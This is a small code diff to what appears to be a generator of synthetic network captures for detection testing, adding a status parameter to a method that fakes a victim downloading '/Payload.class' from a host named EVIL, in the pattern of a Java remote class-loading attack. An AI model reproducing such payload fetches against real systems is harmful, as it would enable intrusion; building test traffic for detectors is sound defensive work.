@@ -109,9 +109,9 @@ class Tale(w.Capture):
                                                 ("s", answer + done(2, 0x65))])
         self.wait(0.1)
 
-    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=(), body=None, host=None):
+    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=(), body=None, host=None, status="200 OK"):
         body = body or java_class("Payload", words)
-        head = "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: %d\r\n\r\n" % len(body)
+        head = "HTTP/1.0 " + status + "\r\nContent-Type: application/java-vm\r\nContent-Length: %d\r\n\r\n" % len(body)
         host = host or "%s:%d" % ("[%s]" % server if ":" in server else server, port)
         path = path.replace("%s", host)
         request = "GET %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s\r\nAccept: */*\r\n\r\n" % (path, agent, host)
